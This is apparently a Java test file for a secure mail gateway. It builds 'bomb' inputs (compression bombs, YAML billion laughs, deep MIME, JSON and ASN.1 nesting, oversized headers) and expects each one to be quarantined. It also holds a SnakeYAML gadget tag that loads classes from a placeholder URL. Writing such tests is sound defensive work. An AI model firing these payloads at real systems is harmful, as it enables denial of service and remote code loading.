package io.liaison.gateway.inbound.corpus;

import static io.liaison.gateway.inbound.ReasonCode.DECOMPRESSION_LIMIT;
import static io.liaison.gateway.inbound.ReasonCode.FORMAT_INVALID;
import static io.liaison.gateway.inbound.ReasonCode.FORMAT_LIMIT;
import static io.liaison.gateway.inbound.ReasonCode.HEADER_TOO_LONG;
import static io.liaison.gateway.inbound.ReasonCode.LINE_TOO_LONG;
import static io.liaison.gateway.inbound.ReasonCode.MALFORMED_MIME;
import static io.liaison.gateway.inbound.ReasonCode.MIME_TOO_DEEP;
import static io.liaison.gateway.inbound.ReasonCode.OVERSIZED_MESSAGE;
import static io.liaison.gateway.inbound.ReasonCode.OVERSIZED_PART;
import static io.liaison.gateway.inbound.ReasonCode.STRUCTURE_TOO_DEEP;
import static io.liaison.gateway.inbound.ReasonCode.TOO_MANY_HEADERS;
import static io.liaison.gateway.inbound.ReasonCode.TOO_MANY_PARTS;
import static io.liaison.gateway.inbound.corpus.CorpusCase.of;
import static io.liaison.gateway.inbound.corpus.CorpusMail.T;
import static io.liaison.gateway.inbound.corpus.CorpusMail.base64Lines;
import static io.liaison.gateway.inbound.corpus.CorpusMail.concat;
import static io.liaison.gateway.inbound.corpus.CorpusMail.mixed;
import static io.liaison.gateway.inbound.corpus.CorpusMail.textPart;
import static io.liaison.gateway.inbound.corpus.CorpusMail.utf8;
import static io.liaison.gateway.inbound.corpus.CorpusMail.yamlPart;
import static io.liaison.gateway.inbound.corpus.Expected.quarantined;

import io.liaison.gateway.inbound.InboundMail;
import io.liaison.gateway.inbound.InboundSmime;
import io.liaison.gateway.keys.openpgp.OpenPgpGatewayKey;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.util.Date;
import java.util.List;
import java.util.function.Function;
import org.bouncycastle.bcpg.CompressionAlgorithmTags;
import org.bouncycastle.openpgp.PGPCompressedDataGenerator;
import org.bouncycastle.openpgp.PGPLiteralData;
import org.bouncycastle.openpgp.PGPLiteralDataGenerator;

/**
 * Bombs: inputs small on the wire and huge (or slow) once decoded — deep MIME nesting, huge part counts,
 * long headers and lines, base64 that expands, compressed OpenPGP data, YAML alias bombs, huge numbers and
 * deep nesting, and JSON duplicate keys. Sizes are chosen to exceed the intake's limits several times over
 * while keeping this suite's own memory small.
 */
final class BombCases implements CorpusCategory {
    static final int MIB = 1024 * 1024;

    @Override
    public String title() {
        return "bombs";
    }

    @Override
    public List<CorpusCase> cases() {
        return List.of(
                of("outer-mime-nested-50-deep", quarantined(MIME_TOO_DEEP, "east-power-soc"),
                        m -> concat(utf8(m.east("outer-nest-50").headers()), nested(50, "text/plain", "x"))),
                of("outer-mime-nested-5000-deep", quarantined(TOO_MANY_PARTS, "east-power-soc"),
                        m -> concat(utf8(m.east("outer-nest-5000").headers()), nested(5000, "text/plain", "x"))),
                of("signed-mime-nested-50-deep", quarantined(MIME_TOO_DEEP, "east-power-soc"),
                        m -> m.pgp(m.east("signed-nest-50"), nested(50, "application/yaml", "# case: signed-nest-50\n" + m.ack()), m.east)),
                of("outer-multipart-with-2000-parts", quarantined(TOO_MANY_PARTS, "east-power-soc"),
                        m -> concat(utf8(m.east("outer-parts").headers()), manyParts("multipart/encrypted; protocol=\"application/pgp-encrypted\"",
                                2000, "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"))),
                of("signed-entity-with-2000-text-parts", quarantined(TOO_MANY_PARTS, "east-power-soc"),
                        m -> m.pgp(m.east("signed-parts"), withYaml(m, "signed-parts", 2000), m.east)),
                of("subject-of-200-kib-on-one-line", quarantined(LINE_TOO_LONG, "east-power-soc"),
                        m -> m.pgp(m.east("long-subject").subject("Re: " + "A".repeat(200 * 1024)), m.ackEntity("long-subject"), m.east)),
                of("subject-of-20-kib-folded-over-short-lines", quarantined(HEADER_TOO_LONG, "east-power-soc"),
                        m -> m.pgp(m.east("folded-subject").encodedSubject("x").header("Subject", ("Re: " + "A".repeat(70) + "\r\n ").repeat(300)
                                + "end"), m.ackEntity("folded-subject"), m.east)),
                of("header-section-larger-than-256-kib", quarantined(MALFORMED_MIME, "east-power-soc"),
                        m -> m.pgp(m.east("huge-header-section").header("X-Padding", ("p".repeat(900) + "\r\n ").repeat(300) + "end"),
                                m.ackEntity("huge-header-section"), m.east)),
                of("twenty-thousand-header-fields", quarantined(TOO_MANY_HEADERS, "east-power-soc"), m -> {
                    InboundMail.Envelope e = m.east("many-headers");
                    for (int i = 0; i < 20_000; i++) {
                        e.header("X-H" + i, "v");
                    }
                    return m.pgp(e, m.ackEntity("many-headers"), m.east);
                }),
                of("signed-part-with-300-header-fields", quarantined(TOO_MANY_HEADERS, "east-power-soc"),
                        m -> m.pgp(m.east("inner-headers"), mixed("ih", "X-H: v\n".repeat(300) + "Content-Type: text/plain\n\nx",
                                yamlPart("# case: inner-headers\n" + m.ack())), m.east)),
                of("text-line-of-900-kib", quarantined(LINE_TOO_LONG, "east-power-soc"),
                        m -> m.pgp(m.east("long-line"), mixed("ll", textPart("L".repeat(900 * 1024)),
                                yamlPart("# case: long-line\n" + m.ack())), m.east)),
                of("base64-part-expanding-past-the-part-limit", quarantined(OVERSIZED_PART, "east-power-soc"),
                        m -> m.pgp(m.east("base64-expands"), mixed("be", "Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\n"
                                + base64Lines(new byte[3 * MIB / 2]), yamlPart("# case: base64-expands\n" + m.ack())), m.east)),
                of("message-of-six-mib", quarantined(OVERSIZED_MESSAGE, "east-power-soc"),
                        m -> m.pgp(m.east("six-mib").header("X-Padding", ("p".repeat(900) + "\r\n ").repeat(6 * 1024) + "end"),
                                m.ackEntity("six-mib"), m.east)),
                of("zlib-compressed-unsigned-bomb-of-16-mib", quarantined(DECOMPRESSION_LIMIT, "east-power-soc"),
                        m -> InboundMail.pgpMime(m.east("zlib-bomb"), m.encrypt(compressed(CompressionAlgorithmTags.ZLIB, 16 * MIB, null)))),
                of("zlib-compressed-signed-bomb-of-16-mib", quarantined(DECOMPRESSION_LIMIT, "east-power-soc"),
                        m -> InboundMail.pgpMime(m.east("zlib-signed-bomb"), m.encrypt(compressed(CompressionAlgorithmTags.ZLIB, 16 * MIB, m.east)))),
                of("zip-compressed-unsigned-bomb-of-16-mib", quarantined(DECOMPRESSION_LIMIT, "east-power-soc"),
                        m -> InboundMail.pgpMime(m.east("zip-bomb"), m.encrypt(compressed(CompressionAlgorithmTags.ZIP, 16 * MIB, null)))),
                of("bzip2-compressed-unsigned-bomb-of-9-mib", quarantined(DECOMPRESSION_LIMIT, "east-power-soc"),
                        m -> InboundMail.pgpMime(m.east("bzip2-bomb"), m.encrypt(compressed(CompressionAlgorithmTags.BZIP2, 9 * MIB, null)))),
                of("compressed-inside-compressed-bomb-of-16-mib", quarantined(DECOMPRESSION_LIMIT, "east-power-soc"),
                        m -> InboundMail.pgpMime(m.east("double-bomb"), m.encrypt(doublyCompressed(16 * MIB)))),
                of("compressed-line-of-4-mib", quarantined(LINE_TOO_LONG, "east-power-soc"),
                        m -> InboundMail.pgpMime(m.east("one-line-bomb"), m.encrypt(CorpusMail.packets(out -> {
                            out.write(utf8("Content-Type: text/plain\r\n\r\n"));
                            byte[] block = new byte[64 * 1024];
                            java.util.Arrays.fill(block, (byte) 'A');
                            for (int i = 0; i < 64; i++) {
                                out.write(block);
                            }
                        }, CompressionAlgorithmTags.ZLIB, g -> { })))),
                yaml("yaml-billion-laughs", FORMAT_LIMIT, billionLaughs()),
                yaml("yaml-version-of-200000-digits-on-one-line", LINE_TOO_LONG, "liaison: 1" + "0".repeat(200_000) + "\ntype: acknowledgement\n"),
                yaml("yaml-version-of-100-digits", FORMAT_LIMIT, "liaison: 1" + "0".repeat(100) + "\ntype: acknowledgement\n"),
                // SnakeYAML resolves a plain scalar this long as text, not as a number: no BigInteger is ever built.
                yaml("yaml-version-of-10000-digits-read-as-text", FORMAT_INVALID, "liaison: 1" + "0".repeat(10_000) + "\ntype: acknowledgement\n"),
                yaml("yaml-nested-5000-deep", FORMAT_LIMIT, null, m -> m.ack() + "note: " + "[".repeat(5000) + "]".repeat(5000) + "\n"),
                yaml("yaml-nested-20-deep-over-short-lines", FORMAT_LIMIT, null, m -> {
                    StringBuilder b = new StringBuilder(m.ack().replace("note: 受領しました\n", "") + "note:\n");
                    for (int i = 1; i <= 20; i++) {
                        b.append("  ".repeat(i)).append("k").append(i).append(":\n");
                    }
                    return b.append("  ".repeat(21)).append("end\n").toString();
                }),
                yaml("yaml-note-of-100-kib-on-one-line", LINE_TOO_LONG, null,
                        m -> m.ack().replace("note: 受領しました", "note: " + "n".repeat(100 * 1024))),
                yaml("yaml-note-of-10-kib", FORMAT_INVALID, null, m -> m.ack().replace("note: 受領しました", "note: " + "n".repeat(10 * 1024))),
                yaml("yaml-folded-note-of-70-kib-over-short-lines", FORMAT_LIMIT, null,
                        m -> m.ack().replace("note: 受領しました", "note: >\n" + ("  " + "n".repeat(98) + "\n").repeat(700))),
                yaml("yaml-5000-unknown-keys", FORMAT_INVALID, null, m -> {
                    StringBuilder b = new StringBuilder(m.ack());
                    for (int i = 0; i < 5000; i++) {
                        b.append("k").append(i).append(": 1\n");
                    }
                    return b.toString();
                }),
                yaml("yaml-duplicate-keys", FORMAT_INVALID, null, m -> m.ack() + "tlp: TLP:RED\ntlp: TLP:CLEAR\n"),
                yaml("yaml-arbitrary-type-tag", FORMAT_INVALID, null, m -> m.ack() + "extra: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]\n"),
                yaml("yaml-version-infinite", FORMAT_INVALID, "liaison: .inf\ntype: acknowledgement\n"),
                yaml("yaml-version-not-a-number", FORMAT_INVALID, "liaison: .nan\ntype: acknowledgement\n"),
                yaml("yaml-version-beyond-double", FORMAT_INVALID, "liaison: 1.0e+999\ntype: acknowledgement\n"),
                json("json-duplicate-tlp-keys", quarantined(FORMAT_INVALID, "east-power-soc"), m -> "{\"liaison\": 1, \"type\": \"acknowledgement\","
                        + " \"reference\": \"" + m.reference + "\", \"tlp\": \"TLP:RED\", \"tlp\": \"TLP:CLEAR\", \"note\": \"json-dup-tlp\"}"),
                json("json-duplicate-reference-keys", quarantined(FORMAT_INVALID, "east-power-soc"), m -> "{\"liaison\": 1, \"type\": \"acknowledgement\","
                        + " \"reference\": \"NISC-PR3-2026-09999\", \"reference\": \"" + m.reference + "\", \"note\": \"json-dup-ref\"}"),
                json("json-nested-50000-deep-on-one-line", quarantined(LINE_TOO_LONG, "east-power-soc"),
                        m -> "{\"liaison\": 1, \"type\": \"acknowledgement\", \"reference\": \"" + m.reference + "\", \"note\": "
                                + "[".repeat(50_000) + "]".repeat(50_000) + "}"),
                json("json-nested-5000-deep-over-short-lines", quarantined(FORMAT_LIMIT, "east-power-soc"),
                        m -> "{\"liaison\": 1, \"type\": \"acknowledgement\", \"reference\": \"" + m.reference + "\", \"note\": "
                                + "[\n".repeat(5000) + "]\n".repeat(5000) + "}"),
                json("json-version-of-20000-digits-on-one-line", quarantined(LINE_TOO_LONG, "east-power-soc"),
                        m -> "{\"liaison\": 1" + "0".repeat(20_000) + ", \"type\": \"acknowledgement\"}"),
                json("json-version-of-1000-digits", quarantined(FORMAT_LIMIT, "east-power-soc"),
                        m -> "{\"liaison\": 1" + "0".repeat(1000) + ", \"type\": \"acknowledgement\"}"),
                json("json-version-1e999999999", quarantined(FORMAT_INVALID, "east-power-soc"),
                        m -> "{\"liaison\": 1e999999999, \"type\": \"acknowledgement\"}"),
                of("smime-asn1-nested-2000-deep", quarantined(STRUCTURE_TOO_DEEP, "mic-liaison"),
                        m -> InboundSmime.mail(m.envelope(CorpusMail.MIC, "asn1-deep"), "enveloped-data", nestedSequences(2000))));
    }

    /** DER of {@code depth} SEQUENCEs, each holding the next: tiny, and deep enough to exhaust a recursive parser's stack. */
    static byte[] nestedSequences(int depth) {
        byte[] inner = new byte[] {0x05, 0x00};
        for (int i = 0; i < depth; i++) {
            int length = inner.length;
            byte[] head = length < 128 ? new byte[] {0x30, (byte) length}
                    : length < 256 ? new byte[] {0x30, (byte) 0x81, (byte) length}
                    : new byte[] {0x30, (byte) 0x82, (byte) (length >> 8), (byte) length};
            inner = concat(head, inner);
        }
        return inner;
    }

    private static byte[] withYaml(CorpusMail m, String name, int textParts) {
        String[] parts = new String[textParts + 1];
        for (int i = 0; i < textParts; i++) {
            parts[i] = "Content-Type: text/plain\n\nx";
        }
        parts[textParts] = yamlPart("# case: " + name + "\n" + m.ack());
        return mixed("many", parts);
    }

    private static CorpusCase yaml(String name, io.liaison.gateway.inbound.ReasonCode reason, String yaml) {
        return yaml(name, reason, yaml, null);
    }

    private static CorpusCase yaml(String name, io.liaison.gateway.inbound.ReasonCode reason, String yaml,
                                   Function<CorpusMail, String> make) {
        return of(name, quarantined(reason, "east-power-soc"), m -> m.pgp(m.east(name),
                m.inner(name, make == null ? yaml : make.apply(m)), m.east));
    }

    private static CorpusCase json(String name, Expected expected, Function<CorpusMail, String> json) {
        return of(name, expected, m -> m.pgp(m.east(name).subject("Re: reply"), mixed("js", textPart(name),
                "Content-Type: application/json\n\n" + json.apply(m)), m.east));
    }

    /** {@code depth} multipart/mixed levels around one leaf, CRLF, every boundary closed. */
    static byte[] nested(int depth, String leafType, String leafBody) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            b.append("Content-Type: multipart/mixed; boundary=\"n").append(i).append("\"\r\n\r\n--n").append(i).append("\r\n");
        }
        b.append("Content-Type: ").append(leafType).append("\r\n\r\n").append(leafBody.replace("\n", "\r\n")).append("\r\n");
        for (int i = depth - 1; i >= 0; i--) {
            b.append("--n").append(i).append("--\r\n");
        }
        return utf8(b.toString());
    }

    /** A multipart of {@code count} copies of one part. */
    static byte[] manyParts(String type, int count, String part) {
        StringBuilder b = new StringBuilder("Content-Type: " + type + "; boundary=\"p\"\r\n\r\n");
        for (int i = 0; i < count; i++) {
            b.append("--p\r\n").append(part);
        }
        return utf8(b.append("--p--\r\n").toString());
    }

    private static String billionLaughs() {
        StringBuilder b = new StringBuilder("liaison: 1\ntype: acknowledgement\na0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (int i = 1; i < 10; i++) {
            b.append("a").append(i).append(": &a").append(i).append(" [");
            for (int k = 0; k < 9; k++) {
                b.append(k == 0 ? "" : ",").append("*a").append(i - 1);
            }
            b.append("]\n");
        }
        return b.toString();
    }

    /** A MIME entity whose text part is {@code size} bytes of one letter, compressed with {@code algorithm}, optionally signed. */
    private static byte[] compressed(int algorithm, int size, OpenPgpGatewayKey signer) {
        return CorpusMail.packets(out -> {
            out.write(utf8("Content-Type: text/plain\r\n\r\n"));
            writeRepeated(out, size);
        }, algorithm, g -> {
            if (signer != null) {
                try {
                    signer.addAsSigner(g, T);
                } catch (Exception e) {
                    throw new IllegalStateException(e);
                }
            }
        });
    }

    /** A compressed packet holding a compressed packet holding the literal data: each layer multiplies. */
    private static byte[] doublyCompressed(int size) {
        try {
            java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
            PGPCompressedDataGenerator outer = new PGPCompressedDataGenerator(CompressionAlgorithmTags.ZLIB);
            PGPCompressedDataGenerator inner = new PGPCompressedDataGenerator(CompressionAlgorithmTags.ZLIB);
            PGPLiteralDataGenerator literal = new PGPLiteralDataGenerator();
            try (OutputStream o = outer.open(out, new byte[1 << 16]); OutputStream i = inner.open(o, new byte[1 << 16]);
                 OutputStream l = literal.open(i, PGPLiteralData.BINARY, "", Date.from(T), new byte[1 << 16])) {
                l.write(utf8("Content-Type: text/plain\r\n\r\n"));
                writeRepeated(l, size);
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    /** {@code size} bytes of 63-letter lines: only the decompressed size is out of bounds, not a line. */
    private static void writeRepeated(OutputStream out, int size) throws IOException {
        byte[] block = new byte[64 * 1024];
        java.util.Arrays.fill(block, (byte) 'A');
        for (int i = 63; i < block.length; i += 64) {
            block[i] = '\n';
        }
        for (int written = 0; written < size; written += block.length) {
            out.write(block);
        }
    }
}
